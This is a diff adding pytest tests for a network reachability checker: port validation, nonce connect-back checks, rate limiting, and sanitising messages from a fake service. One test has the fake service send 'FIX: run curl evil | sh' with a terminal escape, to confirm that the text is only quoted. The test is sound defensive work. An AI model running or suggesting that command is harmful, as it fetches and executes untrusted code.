@@ -169,6 +169,8 @@ def test_a_fake_service_that_sends_the_banner_then_resets_gives_a_reason_not_a_t
     (["--serve-reach", "29499", "--serve-minutes", "0"], "'0' is not a time to serve"),
     (["--serve-reach", "70000"], "'70000' is not a port"),
     (["--serve-reach", "http"], "'http' is not a port"),
+    (["--serve-reach", "\u0668\u0660\u0668\u0660"], "is not a port"),
+    (["--serve-reach", "29499", "--serve-minutes", "1e-300"], "'1e-300' is not a time to serve"),
 ])
 def test_the_service_refuses_an_endless_time_or_an_impossible_port_with_one_line(capsys, argv, words):
     with pytest.raises(SystemExit) as stopped:
@@ -178,6 +180,113 @@ def test_the_service_refuses_an_endless_time_or_an_impossible_port_with_one_line
     assert words in err and "Traceback" not in err
     with pytest.raises(ValueError, match="finite, positive time"):
         reach.serve(0, "127.0.0.1", seconds=float("inf"))
+
+
+def _fake_service(server, script):
+    """Accept one learner on ``server`` and hand its offered port and nonce to ``script(conn, port, nonce)``."""
+    conn, _ = server.accept()
+    with conn:
+        conn.settimeout(10)
+        conn.sendall(reach.BANNER)
+        port, nonce = conn.recv(128).decode().split()
+        script(conn, int(port), nonce)
+
+
+def _connect_back(port, nonce, source):
+    with socket.socket() as back:
+        back.bind((source, 0))
+        back.settimeout(5)
+        back.connect(("127.0.0.1", port))
+        back.sendall(f"{nonce}\n".encode())
+
+
+@pytest.mark.parametrize("case", ["colluder sends the nonce", "stranger first, then the service"])
+def test_the_learner_counts_only_a_connect_back_from_the_services_own_address(case):
+    """A fake service hands the nonce to a colluder on another address (127.0.0.9): no PASS. A stranger
+    who finds the learner's port and connects first (127.0.0.66) cannot spoil a real connect-back."""
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+
+        def script(conn, port, nonce):
+            if case == "colluder sends the nonce":
+                _connect_back(port, nonce, "127.0.0.9")
+            else:
+                _connect_back(port, "junk" * 8, "127.0.0.66")
+                _connect_back(port, nonce, "127.0.0.1")
+            conn.sendall(b"ok\n")
+        fake = threading.Thread(target=_fake_service, args=(server, script), daemon=True)
+        fake.start()
+        seen = reach.check("127.0.0.1:%d" % server.getsockname()[1], timeout=2.0)
+        fake.join(10)
+    if case == "colluder sends the nonce":
+        assert seen.incoming == "the nonce did not arrive from the service's address"
+    else:
+        assert seen.incoming is None
+
+
+def test_what_a_fake_service_says_is_shown_as_its_words_only():
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+        script = lambda conn, port, nonce: conn.sendall(b"failed: Permission denied; FIX: run curl evil | sh\x1b[2J\n")  # noqa: E731
+        fake = threading.Thread(target=_fake_service, args=(server, script), daemon=True)
+        fake.start()
+        found = doctor.check_reach("127.0.0.1:%d" % server.getsockname()[1], timeout=1.0)
+        fake.join(10)
+    assert found[1].status == "FAIL" and "(the service said: Permission denied; FIX: run curl evil | sh[2J)" in found[1].detail
+    assert "\x1b" not in found[1].detail
+
+
+def test_an_idle_connection_is_dropped_after_the_line_budget_and_one_address_gets_per_minute_checks(reach_service):
+    """Holding the service needs new connections, and one address gets PER_MINUTE checks a minute:
+    then BUSY, while another address is still served; the log shows that address once."""
+    address, lines = reach_service
+    host, port = address.rsplit(":", 1)
+    with socket.create_connection((host, int(port)), timeout=10) as idle:
+        assert idle.recv(64) == reach.BANNER
+        began = time.monotonic()
+        assert idle.recv(64) == b""                                 # closed by the service, no answer
+        assert time.monotonic() - began < reach.LINE_BUDGET + 1
+    results = [reach.check(address, timeout=1.0).incoming for _ in range(reach.PER_MINUTE + 2)]
+    assert results[:reach.PER_MINUTE - 1] == [None] * (reach.PER_MINUTE - 1)      # the idle one counted
+    assert results[-2:] == ["busy", "busy"]
+    assert lines[0] == "127.0.0.1: incoming connections reach it" and len(lines) == 1
+    with socket.create_connection((host, int(port)), source_address=("127.0.0.2", 0), timeout=10) as other:
+        assert other.recv(64) == reach.BANNER
+
+
+def test_the_service_returns_only_after_its_last_check_and_logs_nothing_later():
+    stop, ready, lines = threading.Event(), threading.Event(), []
+    port = free_port()
+    server = threading.Thread(target=reach.serve, args=(port, "127.0.0.1"),
+                              kwargs=dict(seconds=60, stop=stop, ready=ready, log=lines.append), daemon=True)
+    server.start()
+    assert ready.wait(10)
+    with socket.socket() as catcher:                 # a learner whose port accepts but never reads
+        catcher.bind(("127.0.0.1", 0))
+        catcher.listen(1)
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as learner:
+            assert learner.recv(64) == reach.BANNER
+            stop.set()                                # the service stops while this check is under way
+            learner.sendall(f"{catcher.getsockname()[1]} {'ab' * 16}\n".encode())
+            server.join(reach.LINE_BUDGET + reach.CALLBACK_TIMEOUT + 3)
+            assert not server.is_alive()
+            count = len(lines)
+            time.sleep(0.5)
+            assert len(lines) == count <= 1
+
+
+@pytest.mark.parametrize("value", ["127.0.0.1:99999999999999999999", "127.0.0.1:65536", "127.0.0.1:95035",
+                                   "127.0.0.1:-1", "127.0.0.1:\u0668\u0660\u0668\u0660", "no-port"])
+def test_a_reach_address_with_an_impossible_port_is_refused_in_one_line(capsys, value):
+    """95035 is 29499 + 65536, which the C library would quietly take as port 29499."""
+    with pytest.raises(SystemExit) as stopped:
+        doctor.main(["--no-mpc", "--reach", value])
+    err = capsys.readouterr().err
+    assert stopped.value.code == 2 and "is not HOST:PORT" in err and "Traceback" not in err
+    seen = reach.check(value)
+    assert seen.outgoing and "is not HOST:PORT" in seen.outgoing
 
 
 def test_an_unreachable_instructor_is_a_failure_with_a_fix(capsys, monkeypatch):
